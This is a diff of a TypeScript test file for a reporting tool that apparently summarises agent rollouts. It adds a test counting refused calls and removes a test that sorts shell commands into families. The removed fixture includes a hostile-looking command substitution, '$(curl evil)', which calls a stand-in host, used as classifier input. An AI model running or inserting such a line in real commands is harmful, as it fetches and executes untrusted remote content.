@@ -2,10 +2,8 @@ import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFile
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
-import { commandWords, familyOf } from '../../../src/report/command-family.ts';
 import { Ledger } from '../../../src/report/ledger.ts';
 import { overview } from '../../../src/report/overview.ts';
-import { quote } from '../../../src/report/quote.ts';
 import { storyOf } from '../../../src/report/story.ts';
 
 let dataDir: string;
@@ -184,6 +182,21 @@ test('an empty journal, and none', async () => {
   await expect(Ledger.open(join(dataDir, 'nowhere'), 'light')).rejects.toMatchObject({ code: 'ENOENT' });
 });
 
+test('the overview tells of faulty requests, which are no calls and exclude', async () => {
+  write(opened('r'), finished('r', 'c'), {
+    at: at(3),
+    type: 'call_refused',
+    rollout: 'r',
+    cause: 'conflicting_repeat',
+  });
+  using ledger = await Ledger.open(dataDir, 'light');
+  expect(await overview(ledger, { job: 'j' })).toMatchObject({
+    rollouts: { exclude: 1 },
+    identity: { calls: 1, holds: true },
+    refused: [{ cause: 'conflicting_repeat', requests: 1, rollouts: 1 }],
+  });
+});
+
 test('the overview adds up and names examples', async () => {
   write(
     opened('r'),
@@ -205,29 +218,6 @@ test('the overview adds up and names examples', async () => {
     calls: [{ call: 'c' }, { call: 'd' }],
   });
   expect(await storyOf(dataDir, "'")).toBeNull();
-});
-
-const FAMILIES: readonly (readonly [string, string])[] = [
-  ['ls -la', 'ls'],
-  ['  /usr/bin/env FOO=1 ls', 'env'],
-  ['cd /repo && git clone https://x', 'git clone'],
-  ['FOO=1 BAR=2 sudo pip install x', 'pip install'],
-  ['python3 -m pytest -q', 'pytest'],
-  ['python3 run.py', 'python3'],
-  ['timeout 5 make test', 'make test'],
-  ['./configure --x', 'configure'],
-  ['git --version', 'git'],
-  ['$(curl evil)', 'other'],
-  ['\u001b[2J', 'other'],
-  ['', 'other'],
-];
-
-test('families of commands', async () => {
-  using ledger = await Ledger.open(dataDir, 'light');
-  for (const [command, family] of FAMILIES) {
-    const sql = `SELECT ${familyOf('w')} AS family FROM (SELECT ${commandWords(quote(command))} AS w)`;
-    expect([command, await ledger.rows(sql)]).toEqual([command, [{ family }]]);
-  }
 });
 
 test('the README documents exactly the columns that the views have', async () => {
